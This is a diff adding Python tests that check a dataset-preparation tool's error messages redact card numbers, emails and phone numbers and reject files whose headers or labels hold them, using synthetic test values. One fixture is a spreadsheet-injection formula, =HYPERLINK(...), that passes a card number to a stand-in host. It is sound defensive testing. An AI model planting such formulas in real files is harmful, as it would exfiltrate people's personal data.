@@ -169,3 +169,103 @@ def test_all_problems_collected_and_nothing_written(tmp_path):
 def test_bad_arguments():
     with pytest.raises(ConfigError, match="val_fraction"):
         prepare_dataset("whatever.csv", val_fraction=1.5)
+
+
+# ---- no message quotes personal data, whatever the redact setting (finding 5) ------------------------------------
+CARD = "4111111111111111"
+
+
+def _no_pii(messages: list[str]) -> None:
+    from tests.fixtures.pii_strategies import digits_in
+    for m in messages:
+        assert CARD not in digits_in(m) and "jane@example.org" not in m and "7946 0958" not in m, m
+
+
+@pytest.mark.parametrize("redact", [False, True])
+def test_formula_cell_message_does_not_quote_the_card(tmp_path, redact):
+    rows = base_rows()
+    rows[1][0] = f"={CARD}+1"
+    rows[2][0] = f"=HYPERLINK(\"http://x/?c={CARD}\")"
+    msgs = problems(write(tmp_path / "f.csv", ["text", "label"], rows), redact=redact)
+    (msg,) = [m for m in msgs if "spreadsheet formulas" in m]
+    assert "row 3 column text ('=[CARD]+1')" in msg
+    _no_pii(msgs)
+
+
+@pytest.mark.parametrize("redact", [False, True])
+def test_duplicate_label_message_does_not_quote_pii(tmp_path, redact):
+    rows = base_rows()
+    rows.append([f"my card {CARD[:4]} {CARD[4:8]} {CARD[8:12]} {CARD[12:]} was declined", "a"])
+    rows.append([f"my card {CARD[:4]} {CARD[4:8]} {CARD[8:12]} {CARD[12:]} was declined", "b"])
+    rows.append(["please mail jane@example.org about it", "b"])
+    rows.append(["please mail jane@example.org about it", "c"])
+    msgs = problems(write(tmp_path / "d.csv", ["text", "label"], rows), redact=redact)
+    (msg,) = [m for m in msgs if "different labels" in m]
+    assert "'my card [CARD] was declined' on rows 17 (a), 18 (b)" in msg
+    assert "'please mail [EMAIL] about it'" in msg
+    _no_pii(msgs)
+
+
+@pytest.mark.parametrize("redact", [False, True])
+def test_overlap_message_does_not_quote_pii(tmp_path, redact):
+    rows = [[t, lab, "validation" if i % 5 == 0 else "train"] for i, (t, lab) in enumerate(base_rows())]
+    rows[1][0] = "call me on +44 20 7946 0958 about my refund"
+    rows.append(["CALL ME ON +44 20 7946 0958 ABOUT MY REFUND", rows[1][1], "validation"])   # not a repeat
+    msgs = problems(write(tmp_path / "o.csv", ["text", "label", "split"], rows), redact=redact)
+    (msg,) = [m for m in msgs if "in both train and validation" in m]
+    assert "'CALL ME ON [PHONE] ABOUT MY REFUND' (train row 3, validation row 17)" in msg
+    _no_pii(msgs)
+
+
+def test_quoted_text_is_redacted_before_it_is_cut():
+    """A cut at 40 characters must not leave the first digits of a card in clear."""
+    from engine.data.checks import quoted
+    q = quoted(f"a rather long customer question with card {CARD} at the end")
+    assert "4111" not in q and q.endswith("…'")
+
+
+def test_other_messages_quote_labels_and_values_redacted(tmp_path):
+    rows = [[f"question {w}", "jane@example.org", "test" if i == 0 else "train"] for i, w in enumerate("abcd")]
+    msgs = problems(write(tmp_path / "l.csv", ["text", "label", "split"], rows))
+    assert any("every row has the same label ('[EMAIL]')" in m for m in msgs)
+    _no_pii(msgs)
+
+
+# ---- column names and labels holding PII refuse the file (finding 11) --------------------------------------------
+@pytest.mark.parametrize("redact", [False, True])
+def test_column_name_holding_pii_refuses_the_file(tmp_path, redact):
+    rows = [r + ["x"] for r in base_rows()]
+    p = write(tmp_path / "c.csv", ["text", "label", "jane@example.org"], rows)
+    msgs = problems(p, redact=redact)
+    (msg,) = [m for m in msgs if "column name" in m]
+    assert msg.startswith("1 column name holds personal data: column 3 (email ************.org)")
+    assert "rename it in the header" in msg
+    _no_pii(msgs)
+    assert not (tmp_path / "home").exists()
+
+
+def test_column_names_in_other_messages_show_tokens(tmp_path):
+    p = write(tmp_path / "c.csv", ["text", "label", f"card {CARD}"], [r + ["x"] for r in base_rows()])
+    with pytest.raises(DatasetError) as e:
+        prepare_dataset(p, label_column="nope")
+    assert "the columns are: text, label, card [CARD]" in str(e.value)
+    _no_pii(e.value.problems)
+
+
+@pytest.mark.parametrize("redact", [False, True])
+def test_labels_holding_pii_refuse_the_file_naming_rows_masked(tmp_path, redact):
+    rows = base_rows()
+    rows[3][1] = "call +44 20 7946 0958"
+    rows[4][1] = "call +44 20 7946 0958"
+    msgs = problems(write(tmp_path / "l.csv", ["text", "label"], rows), redact=redact)
+    (msg,) = [m for m in msgs if "holds personal data" in m]
+    assert "the label column 'label' holds personal data (phone ×2: row 5 (************0958), row 6" in msg
+    assert "rename those labels" in msg
+    _no_pii(msgs)
+
+
+def test_file_name_holding_pii_is_not_quoted(tmp_path):
+    rows = base_rows(labels=("only",))
+    with pytest.raises(DatasetError) as e:
+        prepare_dataset(write(tmp_path / "jane@example.org.csv", ["text", "label"], rows))
+    assert "jane" not in str(e.value) and e.value.source == "[EMAIL]"
